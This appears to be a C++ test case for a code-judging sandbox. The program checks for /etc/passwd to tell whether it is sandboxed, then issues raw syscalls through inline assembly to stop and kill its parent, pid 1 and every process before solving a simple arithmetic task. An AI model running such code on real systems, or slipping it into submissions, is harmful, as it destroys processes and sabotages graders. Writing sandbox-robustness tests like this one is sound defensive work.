// attack: stops and kills its parent, pid 1 and everything else by raw system calls
// task: total
// expect: ok, rejected
// reason: .*
// max_speedup: 1.5

#include <algorithm>
#include <fstream>
#include <iostream>
#include <set>

static long raw(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0) {
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
    return result;
}

static void honest() {
    std::ios::sync_with_stdio(false);
    int n = 0;
    std::cin >> n;
    long long sum = 0, largest = 0;
    std::set<long long> distinct;
    for (int i = 0; i < n; ++i) {
        long long v = 0;
        std::cin >> v;
        sum += v;
        largest = i == 0 ? v : std::max(largest, v);
        distinct.insert(v);
    }
    std::cout << sum << ' ' << largest << ' ' << distinct.size() << std::endl;
}

int main() {
    if (std::ifstream("/etc/passwd")) return std::cout << "not in a sandbox" << std::endl, 0;
    for (int signal : {19, 15, 1, 9}) {  // SIGSTOP, SIGTERM, SIGHUP, SIGKILL
        if (raw(110) > 0) raw(62, raw(110), signal);  // kill(getppid())
        raw(62, 1, signal);
    }
    raw(62, -1, 9);
    honest();
}
